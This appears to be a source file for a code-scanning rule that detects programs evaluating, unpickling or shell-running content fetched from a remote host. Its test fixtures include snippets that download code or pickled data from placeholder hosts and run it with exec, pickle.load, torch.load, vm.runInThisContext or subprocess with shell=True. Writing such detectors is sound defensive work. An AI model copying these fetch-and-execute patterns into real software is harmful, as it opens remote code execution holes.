/** RC-01: what a host returned is evaluated or unpickled. */
import type { Weigher } from '../../engine/rule.ts';
import { exactPattern, raw } from '../../engine/pattern.ts';
import { inFile, weighed } from '../../engine/example.ts';
import { row, type Row } from '../../engine/rule.ts';
import { argumentAt, byCommand, byOrigin } from './origins.ts';
import { originOf, repliedFiles, repliesOf } from './replies.ts';

const safe = /weights_only\s?=\s?True|Safe_?Loader|safe_load/;
const models = /^(?:torch|joblib|(?:c?[Pp]ickle|dill|cloudpickle))\./;

/** Rows of RC-01. */
/** a shell runs what a host returned. */
export const byShellReply: Weigher = (hit) => {
  const [, name = ''] = /\(\s{0,3}(\w{1,40})/.exec(hit.match[0]) ?? [];
  if (/subprocess/.test(hit.match[0]) && !/shell\s?=\s?True/.test(hit.match[0])) return null;
  const origin = repliesOf(hit.region.text).held.get(name);
  return origin === undefined ? null : byCommand(name, origin, hit);
};

/** a program evaluates or unpickles what a host returned. */
export const byEvaluatedReply: Weigher = (hit) => {
  const { text } = hit.region;
  const words = argumentAt(text, hit.match[0], hit.scope);
  if (safe.test(words) || /^\s{0,3}\/|^\s{0,3}$/.test(words)) return null;
  const file = [...repliedFiles(text)].find(([name]) => words.includes(name));
  const origin = originOf(words, repliesOf(text)) ?? file?.[1] ?? null;
  return origin === null ? null : byOrigin(origin, hit, models.test(hit.match[0].trimStart()));
};

export const evaluatedReplies: readonly Row[] = [
  row('a program evaluates or unpickles what a host returned', {
    in: ['script', 'fence', 'decoded'],
    within: 'block',
    sign: /fetch|requests|httpx|urlopen|urlretrieve|axios|got|needle|superagent|session|http/i,
    match: exactPattern(
      raw(
        String.raw`(?<![.\w])(?:exec|eval|compile|Function|loadstring)\(|\b(?:pickle|cPickle|dill|cloudpickle|joblib|`,
      ),
      raw(
        String.raw`marshal|torch)\.loads?\(|\byaml\.(?:unsafe_load|full_load|load)\(|\bvm\.(?:run\w{1,20}|Script|`,
      ),
      raw(String.raw`compileFunction)\(|\binstance_eval\(|\._compile\(|\bimport\(\s{0,3}["'\x60]data:`),
    ),
    severity: 'high',
    weigh: byEvaluatedReply,
    catches: [
      inFile(
        'scripts/rank.py',
        'SOURCE = "https://parts.invalid/rank.py"',
        'def pull(where):',
        '    with urlopen(where) as reply:',
        '        return reply.read()',
        'exec(pull(SOURCE), {})',
      ),
      inFile(
        'scripts/label.py',
        'reply = requests.get("https://weights.invalid/labels.bin")',
        'store = Path("labels.bin")',
        'store.write_bytes(reply.content)',
        'labels = pickle.load(store.open("rb"))',
      ),
      inFile(
        'scripts/theme.mjs',
        'const sheet = await fetch("https://themes.invalid/next.js").then((answer) => answer.text());',
        'vm.runInThisContext(sheet);',
      ),
      inFile(
        'scripts/frame.cjs',
        "https.get({ hostname: 'frames.acme-parts.net', path: '/frame.json' }, (answer) => {",
        "  let all = '';",
        "  answer.on('data', (part) => (all += part));",
        "  answer.on('end', () => {",
        '    const { body } = JSON.parse(all);',
        "    frame._compile(body, 'frame.js');",
        '  });',
        '});',
      ),
      inFile(
        'scripts/extra.ts',
        'const word = await fetch("https://words.invalid/latest").then((answer) => answer.text());',
        'const extra = await import(`data:text/javascript;base64,${word}`);',
      ),
      weighed(
        'critical',
        inFile(
          'scripts/net.py',
          'data = urlopen("http://203.0.113.9/net.pt").read()',
          'net = torch.load(io.BytesIO(data))',
        ),
      ),
    ],
    spares: [
      inFile(
        'scripts/label.py',
        'blob = requests.get("https://weights.invalid/labels.bin").content',
        'if hashlib.sha256(blob).hexdigest() != PINNED:',
        '    raise SystemExit("wrong digest")',
        'labels = pickle.loads(blob)',
      ),
      inFile(
        'scripts/net.py',
        'blob = requests.get("https://huggingface.co/acme/net/resolve/main/net.pt").content',
        'net = torch.load(io.BytesIO(blob))',
      ),
      inFile(
        'scripts/plug.py',
        'code = Path(folder, "plugin.py").read_text()',
        'rows = requests.get("https://api.acme.invalid/rows").json()',
        'plugin = compile(code, "plugin.py", "single")',
      ),
      inFile(
        'scripts/own.ts',
        'const answer = await fetch("https://api.acme.invalid/rows").then((each) => each.json());',
        'const extra = await import(`data:text/javascript,${encodeURIComponent(source)}`);',
      ),
      inFile(
        'scripts/sign-in.cjs',
        'const page = `https://id.acme.invalid/sign-in?response_type=code&client_id=${id}`;',
        'exec(`${opener} "${page}"`);',
        'const answer = await fetch(`https://id.acme.invalid/token/${id}`);',
        'const code = (await answer.json()).code;',
      ),
      inFile(
        'scripts/count.py',
        'rows = requests.get("https://api.acme.invalid/rows").json()',
        'shape = re.compile("[a-z]+")',
      ),
    ],
  }),
  row('a shell runs what a host returned', {
    in: ['script', 'fence', 'decoded'],
    within: 'line',
    sign: /fetch|requests|httpx|urlopen|axios|got|needle|superagent|session|http/i,
    match:
      /\b(?:os\.(?:system|popen)|subprocess\.\w{2,14}|execSync|(?<![.\w])exec)\(\s{0,3}\w{1,40}(?=\s{0,3}[,)])[^\n]{0,120}/,
    severity: 'high',
    weigh: byShellReply,
    catches: [
      inFile(
        'scripts/day.py',
        'list = urlopen("https://steps.invalid/today.txt").read().decode()',
        'for step in list.splitlines():',
        '    subprocess.run(step, shell=True)',
      ),
    ],
    spares: [
      inFile(
        'scripts/day.py',
        'rows = requests.get("https://api.acme.invalid/rows").json()',
        'command = "sort rows.txt"',
        'subprocess.run(command, shell=True)',
      ),
    ],
  }),
];
